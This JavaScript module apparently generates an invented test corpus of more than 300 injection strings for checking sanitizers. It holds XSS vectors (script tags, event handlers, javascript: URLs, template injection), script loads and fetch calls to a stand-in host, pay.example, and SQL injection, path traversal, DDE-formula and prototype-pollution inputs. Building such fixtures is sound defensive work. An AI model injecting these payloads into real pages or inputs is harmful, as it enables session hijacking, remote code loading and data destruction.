// Texts that would do something in a page that took them for markup, a link, a style or a script. Made by combination: invented, all of them.

const act = 'window.pwned=1';
const codes = [act, `document.title='pwned'`, `fetch('http://pay.example/')`];
const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin'];
const elements = ['img src=x', 'svg', 'body', 'iframe src=x', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'object data=x', 'embed src=x', 'marquee', 'style'];
const urls = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:', 'http://pay.example/', '//pay.example/'];
const holders = ['<a href="§">x</a>', '<iframe src="§"></iframe>', '<form action="§"><button>', '<base href="§">', '<link rel=stylesheet href="§">', '<meta http-equiv=refresh content="0;url=§">', '[x](§)', '![x](§)', '<§>'];
const breaks = ['"><', "'><", '`><', '--><', '</textarea><', '</title><', '</style><', ']]><', '}}<', '{@html "<'];

/** More than 300 of them, each different. */
export const payloads = [
  ...codes.flatMap((code) => [`<script>${code}</script>`, `<SCRIPT SRC=//pay.example>${code}</SCRIPT>`, `{{constructor.constructor("${code}")()}}`, `\${${code}}`, `<svg><script>${code}</script>`]),
  ...elements.flatMap((element) => events.map((event, at) => `<${element} ${event}="${codes[at % codes.length]}">`)),
  ...urls.flatMap((url) => holders.map((holder) => holder.replace('§', `${url}${act}`))),
  ...breaks.flatMap((cut) => codes.map((code) => `${cut}img src=x onerror=${code}>`)),
  ...['\u202e', '\u2066', '\u200b', '\u0000', '\u001b[31m', '\ufeff', '\u{e0041}'].flatMap((hidden) => codes.map((code) => `${hidden}<img src=x onerror=${code}>${hidden}`)),
  ...['color:red;background:url(//pay.example)', 'position:fixed;inset:0', '@import "//pay.example"'].flatMap((css) => [`<p style="${css}">`, `<style>*{${css}}</style>`, `<div class="pwned" style='${css}'>`]),
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '=cmd|calc!A1', '%00', '../../etc/passwd', '%s%n', "' OR 1=1 --", '";DROP TABLE cases;--'].flatMap((word) => [word, `<b id="${word}">`, `{"${word}":{"pwned":1}}`]),
  ...Array.from({ length: 60 }, (_, at) => `<x${at} on${'abcdefghij'[at % 10]}=${act} tabindex=${at}><math><mi//xlink:href="data:x,<script>${act}</script>">`),
].filter((one, at, all) => all.indexOf(one) === at);
